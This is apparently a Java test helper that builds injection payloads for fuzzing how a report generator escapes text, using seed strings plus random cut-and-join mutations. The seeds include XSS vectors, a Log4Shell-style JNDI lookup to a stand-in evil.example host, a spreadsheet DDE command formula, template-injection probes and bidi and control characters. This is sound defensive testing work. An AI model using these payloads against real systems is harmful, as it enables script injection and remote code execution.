package racelane.model.report;

import java.util.ArrayList;
import java.util.List;
import java.util.Random;

/** Words that try to be more than words, in every sink that is known. */
final class Payloads {
    private static final List<String> SEEDS = List.of(
            "<script>alert(1)</script>",
            "</td></tr></table><h1>x</h1>",
            "\"><img src=x onerror=alert(1)>",
            "' onmouseover='alert(1)",
            "</style><style>*{display:none}</style>",
            "</title><title>x</title>",
            "</pre></code></svg><p>",
            "<!-- x --> <![CDATA[ x ]]> <?php x ?>",
            "&lt;b&gt; &amp;amp; &#60;b&#62; &nbsp;",
            "javascript:alert(1)",
            "[link](http://evil.example/?q=1)",
            "![image](http://evil.example/x.png)",
            "http://evil.example www.evil.example mara@evil.example",
            "<http://evil.example>",
            "[ref]: http://evil.example\n[ref]",
            "@octocat closes #1 GH-2 owner/repo#3 f8d3c21a9b",
            "# heading",
            "- item",
            "1. item",
            "12) item",
            "+ item",
            "* item",
            "> quote",
            "---",
            "===",
            "***",
            "```\ncode\n```",
            "~~~\ncode\n~~~",
            "    indented code",
            "\tindented code",
            "`code` ``more`` ```most```",
            "`",
            "\\` \\| \\\\",
            "a | b | c",
            "a\\|b\\\\|c",
            "| --- | --- |",
            "x |\n| - |\n| y",
            "**bold** __bold__ *it* _it_ ~~gone~~",
            "a\n\nb\n\n# c",
            "line one  \nline two\r\nline three\rline four",
            "<br><br/>",
            "<div>\n\nblock\n\n</div>",
            "$$x$$ $y$ ${jndi:ldap://evil.example/a}",
            "=cmd|' /C calc'!A0",
            "+1+1",
            "-1-1",
            "@SUM(1+1)",
            "\u202Egnp.exe\u202C \u2066x\u2069 \u200B\u200D\uFEFF\u2060",
            "\u0000\u0001\u0007\u0008\u000B\u000C\u001B[31mred\u001B[0m\u007F\u0085\u009B",
            "\uD800 \uDC00 \uDBFF\uDFFF \uFFFE \uFDD0",
            "\uDB40\uDC41\uDB40\uDC42 tags",
            "\u2028\u2029 lines",
            "{{7*7}} <%= x %> #{x}",
            ":warning: :+1:",
            "- [ ] task",
            "[^1]: note",
            "<a href='x'>x</a>",
            "<svg/onload=alert(1)>",
            "%3Cscript%3E",
            "\" style=\"position:fixed\" x=\"");

    private Payloads() {}

    /** Returns {@code count} payloads: the known ones, then random joins and cuts of them. */
    static List<String> of(int count, long seed) {
        Random random = new Random(seed);
        List<String> payloads = new ArrayList<>(SEEDS);
        while (payloads.size() < count) {
            String one = SEEDS.get(random.nextInt(SEEDS.size()));
            String two = SEEDS.get(random.nextInt(SEEDS.size()));
            String cut = one.substring(0, random.nextInt(one.length() + 1));
            String join = List.of("", " ", "\n", "|", "`", "x", "\\", "<", "*").get(random.nextInt(9));
            String text = cut + join + two.substring(random.nextInt(two.length()));
            if (!text.isBlank()) {
                payloads.add(text);
            }
        }
        return payloads;
    }
}
